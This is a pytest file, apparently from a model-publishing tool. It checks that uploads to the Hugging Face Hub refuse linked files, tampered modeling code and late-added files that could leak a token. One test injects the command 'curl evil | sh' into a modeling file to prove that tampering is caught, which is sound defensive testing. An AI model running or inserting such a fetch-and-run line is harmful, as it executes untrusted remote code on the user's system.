"""Issue 31, "No pickles" (publish): every file `publish` uploads is one the export wrote: no links
(a README.md linked to a token file would publish the token), the remote code byte-equal to what
this version ships, and exactly the validated names uploaded."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from modeling_dflash2 import DFlash2DraftModel
from tests.support.drafts import randomize
from tests.support.tiny_target import tiny_draft_config_for, tiny_target
from trainer.commands import publish as publish_command
from trainer.commands.runner import run
from trainer.publishing.contract import ExportValidationError, TargetDimensions
from trainer.publishing.export import EXPORT_FILES, export_draft
from trainer.publishing.hub import publish, validate_export_folder

TOKEN = "hf_SECRETtoken_0123456789abcdef"


@pytest.fixture
def exported(tmp_path, monkeypatch):
    target = tiny_target()
    draft = randomize(DFlash2DraftModel(tiny_draft_config_for(target)), seed=0)
    dims = TargetDimensions("org/tiny-target", target.hidden_size, target.vocab_rows, target.num_layers)
    folder = export_draft(draft, tmp_path / "export", target=dims)
    monkeypatch.setattr("trainer.publishing.hub.HfApi", lambda **kwargs: pytest.fail("the Hub was contacted"))
    return folder


@pytest.fixture
def token_file(tmp_path):
    token = tmp_path / "home" / ".cache" / "huggingface" / "token"
    token.parent.mkdir(parents=True)
    token.write_text(TOKEN)
    return token


def _relink(path: Path, target: Path, hard: bool = False) -> None:
    path.unlink()
    os.link(target, path) if hard else path.symlink_to(target)


def _refused(folder: Path, match: str) -> str:
    with pytest.raises(ExportValidationError, match=match) as refused:
        publish(folder, "org/draft")
    assert "\n" not in str(refused.value)
    return str(refused.value)


def test_a_readme_linked_to_the_token_file_is_never_published(exported, token_file):
    _relink(exported / "README.md", token_file)
    message = _refused(exported, "symbolic links")
    assert f"README.md -> {token_file}" in message and TOKEN not in message


def test_a_readme_hard_linked_to_the_token_file_is_never_published(exported, token_file):
    _relink(exported / "README.md", token_file, hard=True)
    _refused(exported, r"\['README.md'\] are hard links")


def test_a_readme_replaced_by_the_token_itself_is_not_a_model_card(exported, token_file):
    (exported / "README.md").write_text(TOKEN)
    _refused(exported, "README.md is not the model card export wrote")


@pytest.mark.parametrize("name", sorted(EXPORT_FILES - {"README.md"}))
def test_no_file_of_an_export_may_be_a_link(exported, tmp_path, name):
    copy = tmp_path / name
    copy.write_bytes((exported / name).read_bytes())
    _relink(exported / name, copy)
    _refused(exported, f"symbolic links \\({name} -> ")


def test_a_linked_folder_inside_the_export_is_refused(exported, token_file):
    (exported / "extra").symlink_to(token_file.parent, target_is_directory=True)
    _refused(exported, "symbolic links \\(extra -> ")


def test_an_edited_modeling_file_is_refused_naming_it(exported):
    modeling = exported / "modeling_dflash2.py"
    modeling.write_text(modeling.read_text() + "\nimport os; os.system('curl evil | sh')\n")
    _refused(exported, r"\['modeling_dflash2.py'\] differ from the modeling code this version of dflash2-hub ships")


def test_a_modeling_file_edited_in_place_at_the_same_size_is_refused(exported):
    configuration = exported / "configuration_dflash2.py"
    code = configuration.read_bytes()
    configuration.write_bytes(code[:-2] + b"#\n")
    assert configuration.stat().st_size == len(code)
    _refused(exported, r"\['configuration_dflash2.py'\] differ")


def test_publish_cli_refuses_an_edited_modeling_file_in_one_line(exported, capsys):
    (exported / "configuration_dflash2.py").write_text("print('hello')\n")
    with pytest.raises(SystemExit) as exit_info:
        run(publish_command.main, [str(exported), "org/draft"])
    assert exit_info.value.code == 2
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "['configuration_dflash2.py'] differ" in errors[0], errors


def test_only_the_validated_files_are_uploaded(exported, monkeypatch):
    """The push uploads exactly the names it validated, even if a file appears between the check and
    the upload (and the push-on-save path goes through the same `publish`)."""
    uploads = []

    class RecordingApi:
        def __init__(self, **kwargs):
            pass

        def create_repo(self, *args, **kwargs):
            (exported / "stray.txt").write_text(TOKEN)  # after validation, before the upload

        def upload_folder(self, **kwargs):
            uploads.append(kwargs)
            return type("Commit", (), {"oid": "0" * 40})()

    monkeypatch.setattr("trainer.publishing.hub.HfApi", RecordingApi)
    assert validate_export_folder(exported) == sorted(EXPORT_FILES)
    publish(exported, "org/draft")
    assert uploads[0]["allow_patterns"] == sorted(EXPORT_FILES)
